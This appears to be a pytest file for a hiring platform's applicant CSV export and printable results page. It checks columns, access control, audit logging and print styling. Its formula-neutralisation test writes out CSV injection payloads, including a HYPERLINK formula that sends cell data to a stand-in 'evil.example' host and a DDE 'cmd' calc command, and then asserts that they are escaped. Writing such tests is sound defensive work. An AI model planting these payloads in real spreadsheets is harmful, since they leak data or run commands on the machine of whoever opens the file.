"""The applicants CSV and the printable results: for the posting's recruiter and admins
only, audited like every staff view of results, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from typing import Any

from httpx import AsyncClient
from sqlalchemy import select

from hireloop.audit.models import AuditEntry
from hireloop.auth.models import UserRole
from hireloop.exports.csv_cells import safe_cell
from tests.factories import auth, create_job, create_staff_user, register_candidate
from tests.recruiter.helpers import application_in
from tests.web.forms import staff_page_login, web_login

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def _export(client: AsyncClient, token: str, job_id: str) -> Any:
    return await client.get(f"/api/v1/job-postings/{job_id}/applicants.csv", headers=auth(token))


async def test_the_csv_lists_every_applicant_with_scores_and_skill_levels(
    app: Any, client: AsyncClient
) -> None:
    recruiter = await create_staff_user(app, UserRole.recruiter)
    job = await create_job(client, recruiter, title="Platform Engineer")
    done = await application_in(client, recruiter, job["id"], "under_review")
    waiting = await application_in(client, recruiter, job["id"], "interview_scheduled")
    response = await _export(client, recruiter, job["id"])
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert 'filename="applicants-platform-engineer.csv"' in response.headers["content-disposition"]
    assert response.headers["cache-control"] == "no-store"
    rows = _rows(response.text)
    assert [r["email"] for r in rows] == [done["user"]["email"], waiting["user"]["email"]]
    first, second = rows
    assert first["rank"] == "1" and first["status"] == "under_review"
    assert float(first["overall_score"]) >= 0 and first["recommendation"]
    assert int(first["questions_asked"]) >= 0 and int(first["skills_planned"]) >= 1
    skill_columns = [name for name in first if name.startswith("skill: ")]
    assert skill_columns, "one column per skill"
    assert all(first[name] for name in skill_columns[:1])
    assert second["status"] == "interview_scheduled" and second["overall_score"] == ""
    assert all(second[name] == "" for name in skill_columns)


async def test_formula_text_is_neutralised(app: Any, client: AsyncClient) -> None:
    recruiter = await create_staff_user(app, UserRole.recruiter)
    job = await create_job(client, recruiter, title="=cmd|' /C calc'!A0")
    names = [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1", "Ada Lovelace"]
    for name in names:
        candidate = await register_candidate(client, name)
        applied = await client.post(
            "/api/v1/applications",
            json={"job_posting_id": job["id"]},
            headers=auth(candidate["access_token"]),
        )
        assert applied.status_code == 201
    response = await _export(client, recruiter, job["id"])
    rows = _rows(response.text)
    # Registration trims the names; every one that starts a formula is neutralised.
    exported = {row["candidate"] for row in rows}
    assert exported == {"'" + n.strip() if n != "Ada Lovelace" else n for n in names}
    for row in rows:
        for value in row.values():
            assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert 'filename="applicants-cmd-c-calc-a0.csv"' in response.headers["content-disposition"]


def test_safe_cell_keeps_numbers_and_plain_text() -> None:
    assert safe_cell(-3) == -3 and safe_cell(72.5) == 72.5
    assert safe_cell("Ada") == "Ada" and safe_cell(None) == ""
    assert safe_cell("-5") == "'-5" and safe_cell("=1") == "'=1"
    for hidden in ("\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", " @SUM(A1)"):
        assert safe_cell(hidden) == "'" + hidden


async def test_only_the_postings_recruiter_and_admins_export(app: Any, client: AsyncClient) -> None:
    recruiter = await create_staff_user(app, UserRole.recruiter)
    job = await create_job(client, recruiter)
    await application_in(client, recruiter, job["id"], "interview_completed")
    other = await create_staff_user(app, UserRole.recruiter, "Oscar Other")
    candidate = (await register_candidate(client))["access_token"]
    admin = await create_staff_user(app, UserRole.admin, "Ann Admin")
    assert (await _export(client, other, job["id"])).status_code == 403
    assert (await _export(client, candidate, job["id"])).status_code == 403
    assert (await client.get(f"/api/v1/job-postings/{job['id']}/applicants.csv")).status_code == 401
    assert (await _export(client, admin, job["id"])).status_code == 200
    # The page download, signed in as the other recruiter: refused too.
    await staff_page_login(client, other)
    page = await client.get(f"/recruiter/jobs/{job['id']}/applicants.csv")
    assert page.status_code == 403 and "Not allowed" in page.text


async def test_exports_are_audited_like_views_of_results(app: Any, client: AsyncClient) -> None:
    recruiter = await create_staff_user(app, UserRole.recruiter)
    job = await create_job(client, recruiter)
    made = await application_in(client, recruiter, job["id"], "interview_completed")
    await application_in(client, recruiter, job["id"], "interview_scheduled")
    assert (await _export(client, recruiter, job["id"])).status_code == 200
    await staff_page_login(client, recruiter)
    printed = await client.get(f"/recruiter/applications/{made['application']['id']}/print")
    assert printed.status_code == 200
    async with app.state.sessionmaker() as session:
        entries = list(await session.scalars(select(AuditEntry).order_by(AuditEntry.at)))
    exported = [e for e in entries if e.action == "applicants.exported"]
    assert len(exported) == 1 and exported[0].details["rows"] == 2
    views = [(e.details["via"], str(e.person_id)) for e in entries if e.action == "results.viewed"]
    candidate_id = made["user"]["id"]
    assert ("api_csv", candidate_id) in views and ("print_page", candidate_id) in views
    assert len([v for v in views if v[0] == "api_csv"]) == 1  # only applicants with results


async def test_the_printable_page_has_the_results_and_a_print_stylesheet(
    app: Any, client: AsyncClient
) -> None:
    recruiter = await create_staff_user(app, UserRole.recruiter)
    job = await create_job(client, recruiter, title="Print Role")
    made = await application_in(client, recruiter, job["id"], "interview_completed")
    await staff_page_login(client, recruiter)
    applicant = await client.get(f"/recruiter/applications/{made['application']['id']}")
    link = f"/recruiter/applications/{made['application']['id']}/print"
    assert f'href="{link}"' in applicant.text
    page = await client.get(link)
    assert page.status_code == 200
    assert made["user"]["full_name"] in page.text and "Print Role" in page.text
    assert 'id="overall-score"' in page.text and 'class="no-print' in page.text
    css = (await client.get("/static/app.css")).text
    assert "@page { size: A4" in css and "@media print" in css
    print_rules = css[css.index("@media print") :]
    assert ".site-header" in print_rules and ".no-print" in print_rules
    # Another recruiter and a candidate are refused.
    other = await create_staff_user(app, UserRole.recruiter, "Oscar Other")
    await staff_page_login(client, other)
    assert (await client.get(link)).status_code == 403
    client.cookies.clear()
    await web_login(client, made["user"]["email"])
    assert (await client.get(link)).status_code == 403
